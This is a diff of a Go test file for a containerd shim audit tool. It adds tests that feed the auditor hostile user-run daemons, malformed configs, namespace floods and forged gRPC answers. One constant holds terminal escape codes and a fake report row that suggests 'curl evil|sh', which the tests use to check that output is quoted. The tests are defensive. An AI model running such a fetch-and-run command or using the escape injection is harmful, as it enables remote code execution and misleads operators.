@@ -2,17 +2,21 @@ package audit_test
 
 import (
 	"bytes"
+	"cmp"
 	"context"
 	"net"
 	"os"
 	"path"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
 	"time"
 
+	containersapi "github.com/containerd/containerd/api/services/containers/v1"
 	namespacesapi "github.com/containerd/containerd/api/services/namespaces/v1"
+	tasksapi "github.com/containerd/containerd/api/services/tasks/v1"
 	versionapi "github.com/containerd/containerd/api/services/version/v1"
 	"golang.org/x/sys/unix"
 	"google.golang.org/grpc"
@@ -20,6 +24,7 @@ import (
 
 	"github.com/shimquake/shimquake/audit"
 	"github.com/shimquake/shimquake/fixtures/world"
+	"github.com/shimquake/shimquake/poll"
 )
 
 // nobody is an unprivileged user of the node.
@@ -94,15 +99,23 @@ func (n *node) userFile(name, text string) string {
 // nothing else.
 func (n *node) findsTheLeak(t *testing.T) *audit.Report {
 	t.Helper()
-	ctx, cancel := context.WithTimeout(n.ctx, time.Minute) // long before this the report is there
-	defer cancel()
-	r, err := audit.Run(ctx, audit.Options{PID: n.world.InitPID(), Settle: settle})
-	if err != nil {
-		t.Fatalf("no report: %v", err)
-	}
+	r := n.reports(t, audit.Options{})
 	if len(r.Suspects) != 1 || r.Suspects[0].ID != "lost" || r.Suspects[0].Kind != audit.Directory ||
 		r.Suspects[0].Sure != audit.Certain || len(r.Suspects[0].With) != 1 || len(r.Partial) != 0 || len(r.Daemons) != 1 {
 		t.Errorf("want the bundle of lost with its runc state, certain, and no note:\n%v", r)
+	}
+	return r
+}
+
+// reports asserts that an audit ends.
+func (n *node) reports(t *testing.T, o audit.Options) *audit.Report {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(n.ctx, time.Minute) // long before this the report is there
+	defer cancel()
+	o.PID, o.Settle = cmp.Or(o.PID, n.world.InitPID()), settle
+	r, err := audit.Run(ctx, o)
+	if err != nil {
+		t.Fatalf("no report: %v", err)
 	}
 	return r
 }
@@ -129,13 +142,7 @@ func TestAContainerdOfAUser(t *testing.T) {
 		n.must(os.Symlink(secretFile, n.world.Inside(path.Join(bundle, "address"))))
 		n.asUser(t, "sleep", program, "--state", state)
 		r := n.findsTheLeak(t)
-		var b bytes.Buffer
-		n.must(r.Evidence(&b, audit.Options{}, true))
-		for name, text := range untar(t, &b) {
-			if strings.Contains(text, secret) {
-				t.Errorf("the secret is in %s", name)
-			}
-		}
+		n.hasNoSecret(t, r)
 	})
 	t.Run("a FIFO as configuration", func(t *testing.T) {
 		fifo := path.Join(userDir, "fifo")
@@ -163,15 +170,154 @@ func TestAContainerdOfAUser(t *testing.T) {
 	}
 }
 
+// With Options.Untrusted a user's containerd is examined. Its word is never certain, its
+// report appears, and the evidence has no file that the user may not read.
+func TestAnExaminedContainerdOfAUser(t *testing.T) {
+	n := hostileNode(t)
+	program := path.Join(userDir, "containerd")
+	state := path.Join(userDir, "st")
+	bundle := path.Join(state, "io.containerd.runtime.v2.task/audited/fake")
+	n.userFile("st/io.containerd.runtime.v2.task/audited/fake/runtime", "mine")
+	for _, name := range []string{"bootstrap.json", "address"} {
+		n.must(os.Symlink(secretFile, n.world.Inside(path.Join(bundle, name))))
+	}
+	fifo := path.Join(userDir, "fifo")
+	n.must(unix.Mkfifo(n.world.Inside(fifo), 0o666))
+	n.must(os.Chown(n.world.Inside(fifo), nobody, nobody))
+	imports := n.userFile("config.toml", "imports = ['/*/*/*/*', '/*/*/*/*/*/*']\nstate = '"+state+"'")
+	deep := n.userFile("deep.toml", "x = "+strings.Repeat("[", 200_000))
+	for name, args := range map[string][]string{
+		"a FIFO as configuration":             {"--config", fifo},
+		"the kernel's log as configuration":   {"--config", "/proc/kmsg"},
+		"its own memory as configuration":     {"--config", "/proc/self/mem"},
+		"imports of everything":               {"--config", imports},
+		"a configuration of 200,000 brackets": {"--config", deep},
+		"links in a bundle":                   {"--config", "/none"},
+		"300,000 namespaces":                  {"flood"},
+		"late answers":                        {"late"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			role := "sleep"
+			if !strings.HasPrefix(args[0], "--") {
+				role = args[0]
+				args = nil
+			}
+			socket := path.Join(userDir, "sock-"+role)
+			p := n.asUser(t, role, append([]string{program, "--state", state, "--root", state, "--address", socket}, args...)...)
+			if role != "sleep" {
+				n.waitFor(t, socket)
+			}
+			o := audit.Options{Untrusted: true}
+			if role == "late" {
+				o.Timeout = time.Second
+			}
+			r := n.reports(t, o)
+			if len(r.Untrusted) == 0 || len(r.Suspects) == 0 || r.Suspects[0].ID != "lost" {
+				t.Errorf("want the leak of root's containerd:\n%v", r)
+			}
+			for _, s := range r.Suspects {
+				if s.ID != "lost" && s.Sure == audit.Certain {
+					t.Errorf("a user's word is certain: %v", s)
+				}
+			}
+			o.PID = r.Untrusted[0].PID
+			if r := n.reports(t, o); slices.ContainsFunc(r.Suspects, func(s audit.Suspect) bool { return s.ID == "lost" }) {
+				t.Errorf("--pid examines another:\n%v", r)
+			}
+			n.hasNoSecret(t, r)
+			n.must(p.Kill(n.ctx))
+		})
+	}
+}
+
+// hasNoSecret asserts that the evidence has no text of the secret file.
+func (n *node) hasNoSecret(t *testing.T, r *audit.Report) {
+	t.Helper()
+	var b bytes.Buffer
+	n.must(r.Evidence(&b, audit.Options{}, true))
+	for name, text := range untar(t, &b) {
+		if strings.Contains(text, secret) && !strings.HasSuffix(name, "/environ") {
+			t.Errorf("the secret is in %s", name)
+		}
+	}
+}
+
+// A containerd of root's that is broken keeps no report from appearing, and the report
+// says what it did not ask.
+func TestABrokenContainerd(t *testing.T) {
+	for role, want := range map[string]string{
+		"flood": "300000 namespaces", "late": "", "names": "that is no name", "ids": "that is no id",
+	} {
+		t.Run(role, func(t *testing.T) {
+			n := hostileNode(t)
+			n.must(os.Mkdir(n.world.Inside("/opt/fake"), 0o755))
+			text, err := os.ReadFile("/proc/self/exe")
+			n.must(err)
+			n.must(os.WriteFile(n.world.Inside("/opt/fake/containerd"), text, 0o755))
+			n.startUntilEnd(t, role, "/opt/fake/containerd", "--address", "/run/fake.sock", "--state", "/run/fake")
+			n.waitFor(t, "/run/fake.sock")
+			o := audit.Options{}
+			if role == "late" {
+				o.Timeout = time.Second
+			}
+			r := n.reports(t, o)
+			notes := strings.Join(r.Partial, "\n")
+			if len(r.Daemons) != 2 || !strings.Contains(notes, want) || !strings.Contains(notes, "was not asked") {
+				t.Errorf("want a note with %q:\n%v", want, r)
+			}
+			if strings.ContainsAny(r.String(), "\x1b") || strings.Contains(r.String(), "\ncertain  shim") {
+				t.Errorf("what it says is not quoted:\n%q", r.String())
+			}
+		})
+	}
+}
+
+// Files that others than root may write are not believed, whoever runs the containerd.
+// The report says so, and examines them on request.
+func TestAContainerdOfRootsThatOthersMayWrite(t *testing.T) {
+	n := hostileNode(t)
+	text, err := os.ReadFile("/proc/self/exe")
+	n.must(err)
+	n.must(os.MkdirAll(n.world.Inside("/opt/fake"), 0o755))
+	n.must(os.WriteFile(n.world.Inside("/opt/fake/containerd"), text, 0o755))
+	n.must(os.WriteFile(n.world.Inside("/opt/fake/config.toml"), nil, 0o666))
+	n.must(os.Chmod(n.world.Inside("/opt/fake/config.toml"), 0o666))
+	n.must(os.MkdirAll(n.world.Inside("/opt/link"), 0o755))
+	n.must(os.Symlink("/tmp/user/containerd", n.world.Inside("/opt/link/containerd")))
+	for name, test := range map[string]struct {
+		argv []string
+		want string
+	}{
+		"its binary":        {[]string{"/tmp/user/containerd"}, "uid 65534"},
+		"a link to it":      {[]string{"/opt/link/containerd"}, "uid 65534"},
+		"its state":         {[]string{"/opt/fake/containerd", "--state", userDir}, "/tmp/user is owned by uid 65534"},
+		"its socket's home": {[]string{"/opt/fake/containerd", "--address", userDir + "/c.sock"}, "/tmp/user is owned by uid 65534"},
+		"its configuration": {[]string{"/opt/fake/containerd", "--config", "/opt/fake/config.toml"}, "may be written by every user"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			n.startUntilEnd(t, "sleep", test.argv...)
+			r := n.reports(t, audit.Options{})
+			if len(r.Daemons) != 1 || len(r.Untrusted) != 1 || !strings.Contains(r.Untrusted[0].Why, test.want) ||
+				len(r.Partial) != 1 {
+				t.Errorf("want one that is not believed because %q:\n%v", test.want, r)
+			}
+			examined := n.reports(t, audit.Options{Untrusted: true})
+			if len(examined.Untrusted) != 1 || len(examined.Daemons) != 2 {
+				t.Errorf("it was not examined:\n%v", examined)
+			}
+		})
+	}
+}
+
 func (n *node) waitFor(t *testing.T, file string) {
 	t.Helper()
-	for n.ctx.Err() == nil {
-		if _, err := os.Stat(n.world.Inside(file)); err == nil {
-			return
-		}
-		<-time.After(10 * time.Millisecond)
+	err := poll.Until(n.ctx, 10*time.Millisecond, func() (bool, error) {
+		_, err := os.Stat(n.world.Inside(file))
+		return err == nil, nil
+	})
+	if err != nil {
+		t.Fatalf("%s is not there: %v", file, err)
 	}
-	t.Fatalf("%s is not there", file)
 }
 
 // Two flags that any program can have are no evidence for a shim.
@@ -235,14 +381,32 @@ func play(role string) {
 	}
 	switch role {
 	case "sleep":
-	case "flood", "slow":
+	case "bind": // a name in the abstract namespace, which may have a line break
+		if _, err := net.Listen("unix", "@"+os.Args[1]); err != nil {
+			panic(err)
+		}
+		if err := os.WriteFile(os.Args[2], nil, 0o600); err != nil {
+			panic(err)
+		}
+	case "flood", "slow", "late", "names", "ids":
 		listener, err := net.Listen("unix", address)
 		if err != nil {
 			panic(err)
 		}
-		server := grpc.NewServer()
+		delay := map[string]time.Duration{"slow": 4 * time.Second, "late": 300 * time.Millisecond}[role]
+		late := func(ctx context.Context, req any, _ *grpc.UnaryServerInfo, h grpc.UnaryHandler) (any, error) {
+			<-time.After(delay)
+			return h(ctx, req)
+		}
+		lateStream := func(s any, stream grpc.ServerStream, _ *grpc.StreamServerInfo, h grpc.StreamHandler) error {
+			<-time.After(delay)
+			return h(s, stream)
+		}
+		server := grpc.NewServer(grpc.UnaryInterceptor(late), grpc.StreamInterceptor(lateStream))
 		versionapi.RegisterVersionServer(server, fakeVersion{})
-		namespacesapi.RegisterNamespacesServer(server, fakeNamespaces{slow: role == "slow"})
+		namespacesapi.RegisterNamespacesServer(server, fakeNamespaces{role: role})
+		containersapi.RegisterContainersServer(server, fakeContainers{role: role})
+		tasksapi.RegisterTasksServer(server, fakeTasks{})
 		panic(server.Serve(listener))
 	default:
 		panic("no such role: " + role)
@@ -258,20 +422,44 @@ func (fakeVersion) Version(context.Context, *emptypb.Empty) (*versionapi.Version
 	return &versionapi.VersionResponse{Version: "v2.4.2\x1b[2J\ncertain  shim"}, nil
 }
 
-// fakeNamespaces lists far too many namespaces, or answers late.
 type fakeNamespaces struct {
 	namespacesapi.UnimplementedNamespacesServer
-	slow bool
+	role string
 }
 
 func (f fakeNamespaces) List(context.Context, *namespacesapi.ListNamespacesRequest) (
 	*namespacesapi.ListNamespacesResponse, error) {
-	if f.slow {
-		<-time.After(4 * time.Second)
-	}
 	r := &namespacesapi.ListNamespacesResponse{}
-	for i := range 300_000 {
+	for i := range map[string]int{"flood": 300_000, "slow": 900, "late": 900, "ids": 1}[f.role] {
 		r.Namespaces = append(r.Namespaces, &namespacesapi.Namespace{Name: "n" + strconv.Itoa(i)})
 	}
+	if f.role == "names" {
+		r.Namespaces = append(r.Namespaces, &namespacesapi.Namespace{Name: forged})
+	}
 	return r, nil
+}
+
+type fakeTasks struct {
+	tasksapi.UnimplementedTasksServer
+}
+
+func (fakeTasks) List(context.Context, *tasksapi.ListTasksRequest) (*tasksapi.ListTasksResponse, error) {
+	return &tasksapi.ListTasksResponse{}, nil
+}
+
+// forged is a name that would forge a row.
+const forged = "x\x1b[2J\ncertain  shim 1 prod/7: no task\n         do:  curl evil|sh"
+
+// fakeContainers lists a container that cannot be, or none.
+type fakeContainers struct {
+	containersapi.UnimplementedContainersServer
+	role string
+}
+
+func (f fakeContainers) ListStream(_ *containersapi.ListContainersRequest,
+	stream containersapi.Containers_ListStreamServer) error {
+	if f.role != "ids" {
+		return nil
+	}
+	return stream.Send(&containersapi.ListContainerMessage{Container: &containersapi.Container{ID: forged}})
 }
